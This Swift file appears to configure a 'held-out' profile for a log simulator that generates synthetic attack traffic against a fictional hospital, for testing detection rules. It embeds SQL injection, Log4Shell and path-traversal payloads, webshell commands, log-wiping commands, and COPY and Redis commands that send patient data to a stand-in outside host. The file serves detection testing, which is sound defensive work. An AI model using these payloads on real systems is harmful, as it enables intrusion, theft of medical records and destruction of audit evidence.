extension Profile {
    /// Another company: PHP pages, `.do` actions and GraphQL, other accounts, databases and networks, other attackers. What detections are tried on once
    /// they are made; whoever makes them doesn't look here.
    static let heldOut = Profile(
        name: "held-out", start: midnight(2026, 6, 8), days: 110, holiday: 11...13, domain: "m.anxin-hospital.example", businessHours: 8...18,
        files: [
            .portal: "www.anxin.access", .api: "gw_access.log", .application: "his-web.json", .postgresql: "postgresql-15-main.csv",
            .mariadbGeneral: "mysql.log",
            .mariadbSlow: "mysql-slow.log", .cache: "cachegate.jsonl", .hostAuthentication: "his01.auth", .databaseHost: "messages",
            .audit: "audit.log.1",
            .bastion: "jump.log",
        ],
        publicPages: [
            "/index.php", "/dept/index.php?did={n}", "/news/index.php?p={n}", "/guahao/", "/guide.html", "/zhuanjia/list-{n}.html", "/topic/{n}/",
        ],
        numberedPages: ["/zhuanjia/{n}.html", "/news/show.php?aid={n}"],
        oldLinks: ["/bbs/thread-{n}-1-1.html", "/uploadfile/2016/{n}.doc", "/default.aspx?tab={n}", "/news/{n}.shtml"],
        search: "/so.php?wd={q}&t=1", portalLogin: Login(path: "/user/dologin.php", failure: 403, success: 302),
        portalRecords: ["/user/report.php?rid={id}", "/user/visit.php?act=show&vid={id}", "/user/case/{id}.html"],
        assets: ["/public/js/jquery.min.js", "/public/css/style.css?v=33", "/public/images/banner.webp", "/favicon.ico"], health: "/ping.php",
        apiPages: [
            "/graphql?operationName=DoctorList&variables=%7B%22page%22%3A{n}%7D", "/graphql?operationName=Banner",
            "/graphql?operationName=Slots&variables=%7B%22dept%22%3A{n}%7D",
            "/gw/upgrade.do?ver=33&t={ms}",
        ],
        apiRecords: [
            "/graphql?operationName=PatientDetail&variables=%7B%22patientId%22%3A{id}%7D",
            "/graphql?operationName=LabReport&variables=%7B%22reportId%22%3A{id}%7D",
            "/gw/emr/showRecord.do?recordId={id}", "/gw/bill/detail.do?billNo={id}",
        ],
        apiLogin: Login(path: "/gw/passport/login.do", failure: 401, success: 200),
        apiAgents: [
            "AnXin/3.3 (Android 14; Xiaomi 23013RK75C)", "AnXin/3.3 CFNetwork/1494.0.7 Darwin/23.4.0", "Dart/3.3 (dart:io)",
            "AnXin/3.2 (Android 12; HUAWEI)",
        ],
        partnerPoll: "/gw/open/bill/list.do?after={s}", partnerRecord: "/gw/open/bill/get.do?billId={id}",
        partners: ["yibao", "swift-med", "runhe", "tongda", "kefu-x"],
        applicationPages: ["/his/home.do", "/his/dict/icd.do?letter={n}", "/his/plan/week.do?w={n}", "/his/notice/unread.do", "/his/queue/today.do"],
        applicationList: "/his/patient/list.do?pageNo={n}&pageSize=20",
        applicationRecords: [
            "/his/patient/detail.do?pid={id}", "/his/emr/view.do?eid={id}", "/his/lis/result.do?sid={id}", "/his/order/show.do?oid={id}",
        ],
        applicationExport: "/his/stat/exportExcel.do?part={n}",
        applicationLogin: Login(path: "/his/j_spring_security_check", failure: 401, success: 302),
        applicationFields: ApplicationFields(
            time: "timestamp", address: "client_ip", account: "username", method: "method", path: "uri", status: "status", bytes: "bytes_sent",
            rows: "row_count",
            duration: "elapsed", agent: "user_agent"),
        records: 21_000_000...28_999_999, accountName: { Names.numbered($0) },
        proxies: ["172.20.8.2", "172.20.8.3"], trustedProxies: "172.20.8.0/29", applicationServers: ["172.20.16.31", "172.20.16.32"],
        bastion: "172.20.30.7", backupHost: "172.20.40.12", monitorHost: "172.20.8.20", internalNetworks: ["172.16.0.0/12"], seesDesks: true,
        reportHost: "172.20.16.50",
        office: "172.21", applicationHostName: "his01", databaseHostName: "pg-a", bastionName: "jump", authenticationIsRFC5424: true,
        postgresqlZone: " +08", database: "his", applicationRoles: ["his_web", "his_job"], backupRole: "bkuser", reportRole: "fanruan",
        administrators: ["yw_luo", "yw_tan", "liangkf", "xiejs", "dbadmin2", "zhengdb", "hekf"],
        sensitiveTables: ["t_person", "t_emr_main", "t_lis_result", "patient_ext"], plainTables: ["t_dict_icd", "t_dept", "sys_menu"],
        statements: [
            "select p.pid, p.xm, p.xb from t_person p where p.pid = {id}", "select * from t_emr_main where pid = {id} and del = 0 limit 50",
            "update t_bill set st = 2 where bill_no = {id}", "insert into t_visit (pid, dept) values ({id}, {n})", "select * from t_dict_icd",
            "SHOW TRANSACTION ISOLATION LEVEL",
            "select r.* from t_lis_result r join t_sample s on s.sid = r.sid where s.pid = {id}", "BEGIN", "COMMIT",
        ],
        reports: [
            "select dept, count(1) from t_visit where vdate = current_date - 1 group by dept",
            "select sum(amount) from t_bill where st = 2 and paid_at > now() - interval '1 day'",
        ],
        mariadbDatabase: "ucenter", mariadbRole: "uc",
        mariadbTables: ["uc_members", "uc_profile", "uc_logins"],
        mariadbPage: "SELECT uid, truename, mobile, idno FROM uc_profile ORDER BY uid LIMIT {from}, 100000",
        mariadbLookup: "SELECT * FROM uc_profile WHERE uid={id}",
        maintenance: [
            "select count(1) from t_visit", "select relname, n_dead_tup from pg_stat_user_tables order by 2 desc limit 10",
            "explain analyze select 1 from t_bill where bill_no = {id}",
            "vacuum analyze t_visit", "select * from t_dept", "show shared_buffers", "ALTER SYSTEM SET maintenance_work_mem = '1GB'",
        ],
        hostCommands: [
            "/usr/bin/systemctl reload php8.2-fpm", "/usr/bin/vim /etc/nginx/conf.d/his.conf", "/usr/bin/tail -f /var/log/php8.2-fpm.log",
            "/usr/bin/du -sh /var/log",
            "/usr/bin/systemctl status rsyslog", "/usr/bin/rm -f /data/his/cache/debug.log", "/usr/bin/cat /var/log/dpkg.log",
            "/usr/bin/journalctl -xe",
        ],
        mariadbStatements: [
            "SELECT * FROM uc_members WHERE uid={id} LIMIT 1", "UPDATE uc_members SET lastlogintime=UNIX_TIMESTAMP() WHERE uid={id}",
            "SELECT COUNT(*) FROM uc_logins WHERE uid={id}",
            "SELECT sid FROM uc_session WHERE uid={id}", "SET character_set_connection=utf8mb4",
        ],
        cacheKeys: ["PHPREDIS_SESSION:{id}", "u:{id}:prof", "slot:{n}", "emr:{id}:brief"], cacheSweep: "SCAN {n} MATCH slot:* COUNT 50",
        injectable: ["/so.php?wd=", "/dept/index.php?did=", "/news/show.php?aid=", "/news/index.php?p="],
        injections: [
            "-9999' UNION SELECT 1,group_concat(uid,0x3a,password),3 FROM uc_members%23", "5' AND 3=3 AND 'a'='a",
            "5' AND IF(ASCII(SUBSTRING(DATABASE(),1,1))>104,SLEEP(4),0) AND '1",
            "updatexml(1,concat(0x7e,(select user())),1)", "1%df' or 1=1#", "5 RLIKE SLEEP(4)",
            "5' PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x5c,VERSION())),1)-- ",
            "';EXEC xp_cmdshell('whoami')--", "5 or benchmark(9000000,md5(1))", "<?php system($_GET[0]);?>", "${jndi:rmi://203.0.113.44/x}",
            "${${lower:j}ndi:${lower:l}dap://203.0.113.44/x}",
            "<%= 7*7 %>{{config.items()}}", ";cat /etc/passwd|id", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", "|nslookup $(whoami).x.example",
            "5' || pg_sleep(6)--", "#{7*7}%{(#a=@java.lang.Runtime@getRuntime())}",
        ],
        traversals: [
            "/public/down.php?f=../../../../../../etc/passwd", "/public/down.php?f=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow",
            "/index.php?s=../../../../var/www/.env",
            "/index.php?lang=php://filter/convert.base64-encode/resource=../config/database.php", "/public/../../../../../etc/nginx/nginx.conf",
            "/down/..%252f..%252f..%252fetc%252fgroup",
            "/public/down.php?f=..\\..\\..\\windows\\win.ini", "/tpl.php?name=..%c0%af..%c0%af..%c0%afetc/passwd",
            "/public/down.php?f=file:///etc/passwd",
        ],
        shells: ["/uploadfile/2026/{n}.php", "/public/images/t{n}.php", "/data/cache/c_{n}.php", "/uploads/up{n}.phtml"],
        uploads: "/user/avatar_save.php",
        shellCommands: [
            "?c=system('id');", "?x=whoami", "?pass=phpinfo();", "?act=cmd&exec=netstat+-an", "?a=assert&b=eval", "?0=cat%20/etc/passwd",
        ],
        scanned: [
            "/phpinfo.php", "/www.zip", "/.git/HEAD", "/dede/login.php", "/phpmyadmin/", "/config/database.php.bak", "/install/index.php",
            "/.DS_Store", "/api/swagger.json", "/test.php",
            "/ueditor/net/controller.ashx", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/thinkphp/", "/sitemap.xml.gz",
            "/.env.production", "/debug", "/backup/data.sql",
            "/index.php.swp", "/wls-wsat/CoordinatorPortType", "/hudson", "/owa/", "/HNAP1/", "/boaform/admin/formLogin",
        ],
        toolAgents: [
            "gobuster/3.6", "feroxbuster/2.10.1", "Mozilla/5.0 zgrab/0.x", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
            "Go-http-client/1.1", "Wfuzz/3.1.0", "curl/7.88.1",
            "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
        ],
        administrationPages: [
            "/phpmyadmin/index.php", "/phpmyadmin/sql.php?db=ucenter&table=uc_profile", "/adminer.php?username=uc", "/manager/html",
            "/admin/index.php?m=user&a=list", "/solr/admin/cores",
            "/jenkins/script", "/zabbix/index.php",
        ],
        leaks: [
            "/gw/pay/notify.do?cert_no={idcard}&phone={mobile}", "/wx/bind.php?idno={idcard}&t={ms}", "/public/query.php?tel={mobile}",
            "/h5/index.php?token={token}",
        ],
        tampering: [
            "rm -rf /var/log/messages", "unlink /var/log/audit/audit.log", "service rsyslog stop", "auditctl -D", "journalctl --vacuum-size=1",
            "dd if=/dev/null of=/var/log/nginx/access.log",
            "systemctl mask auditd", "pkill -9 auditd", "ln -sf /dev/null /root/.bash_history", "find /var/log -name *.gz -delete",
            "tee /var/log/lastlog",
        ],
        postgresqlTampering: [
            "alter system set log_min_duration_statement = -1; alter system set log_statement to none", "ALTER SYSTEM RESET log_statement",
            "ALTER SYSTEM SET log_min_messages = 'panic'",
        ],
        mariadbTampering: ["set global general_log = off", "SET @@GLOBAL.general_log = 0", "SET GLOBAL log_output='NONE'"],
        selectAll: ["select * from {table}", "SELECT t.* FROM public.{table} t", "select * from his.public.{table} order by 1", "TABLE {table}"],
        copies: [
            "COPY (select * from {table}) TO STDOUT WITH (FORMAT binary)", "COPY {table} TO STDOUT csv",
            "COPY public.{table} TO PROGRAM 'curl -T - http://198.51.100.70/u'", "copy {table} to '/var/tmp/{table}.txt'",
        ],
        cacheOpeners: ["SCAN 0 MATCH * COUNT 50000", "keys emr:*", "BGSAVE"],
        cacheEach: ["HGETALL emr:{id}:brief", "dump u:{id}:prof", "MIGRATE 198.51.100.70 6379 u:{id}:prof 0 5000"],
        databaseTools: ["psql", "DataGrip 2024.1", "navicat", "HeidiSQL", "pg_dump"],
        lookups: ["select xm, sfzh, lxdh from {table} where pid between {id} and {id} + 200", "select * from {table} where pid = {id}"],
        readers: 120...1_500, bulk: 1_800...20_000, walk: 250...12_000, guesses: 60...4_000, stuffed: 100...2_500, sprayed: 25...120,
        sprayPace: 8...400, nightly: 120...1_400,
        probes: 6...600, scans: 150...5_000, pace: 0.05...40,
        rules: [
            SystemRule(
                file: "web_legacy_sync.yml",
                text: """
                    title: Legacy Synchronisation Called With Its Fixed Token
                    id: 5b0e3d3a-55d0-4d3c-9d0b-8e4a11b1f011
                    status: test
                    description: A path and a token that were never removed.
                    author: Suwen simulator
                    logsource:
                        category: webserver
                    detection:
                        selection:
                            cs-uri-query|contains|all:
                                - '/wfx/sync.do'
                                - 'token=legacy'
                            sc-status: 200
                        condition: selection
                    level: high

                    """, id: "5b0e3d3a-55d0-4d3c-9d0b-8e4a11b1f011"),
            SystemRule(
                file: "lnx_sshd_identifier.yml",
                text: """
                    title: Client Speaks No SSH
                    id: 5b0e3d3a-55d0-4d3c-9d0b-8e4a11b1f012
                    status: test
                    description: Somebody tried another protocol at sshd.
                    author: Suwen simulator
                    logsource:
                        product: linux
                        service: sshd
                    detection:
                        keywords:
                            - 'client sent invalid protocol identifier'
                        condition: keywords
                    level: medium

                    """, id: "5b0e3d3a-55d0-4d3c-9d0b-8e4a11b1f012"),
        ], sigmaRequest: "/wfx/sync.do?n={n}&token=legacy")
}
